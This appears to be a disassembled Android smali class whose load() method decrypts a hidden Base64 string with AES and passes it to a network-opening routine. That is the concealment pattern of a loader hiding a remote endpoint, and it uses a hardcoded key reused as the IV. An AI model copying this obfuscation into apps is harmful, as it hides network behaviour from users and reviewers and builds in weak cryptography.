.class public Lin3/Api;
.super Ljava/lang/Object;

.method public static load()V
    .registers 8
    const-string v0, "ljtNZ6kx0dl7PJWSLTMJ85pxBjo891du1EUvIhvTGRY="
    const/4 v1, 0x0
    invoke-static {v0, v1}, Landroid/util/Base64;->decode(Ljava/lang/String;I)[B
    move-result-object v0
    const-string v1, "0123456789abcdef"
    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
    move-result-object v1
    new-instance v2, Ljavax/crypto/spec/SecretKeySpec;
    const-string v3, "AES"
    invoke-direct {v2, v1, v3}, Ljavax/crypto/spec/SecretKeySpec;-><init>([BLjava/lang/String;)V
    const-string v3, "AES/CBC/PKCS5Padding"
    invoke-static {v3}, Ljavax/crypto/Cipher;->getInstance(Ljava/lang/String;)Ljavax/crypto/Cipher;
    move-result-object v3
    const/4 v4, 0x2
    new-instance v5, Ljavax/crypto/spec/IvParameterSpec;
    invoke-direct {v5, v1}, Ljavax/crypto/spec/IvParameterSpec;-><init>([B)V
    invoke-virtual {v3, v4, v2, v5}, Ljavax/crypto/Cipher;->init(ILjava/security/Key;Ljava/security/spec/AlgorithmParameterSpec;)V
    invoke-virtual {v3, v0}, Ljavax/crypto/Cipher;->doFinal([B)[B
    move-result-object v0
    new-instance v1, Ljava/lang/String;
    invoke-direct {v1, v0}, Ljava/lang/String;-><init>([B)V
    invoke-static {v1}, Lin3/Net;->open(Ljava/lang/String;)V
    return-void
.end method

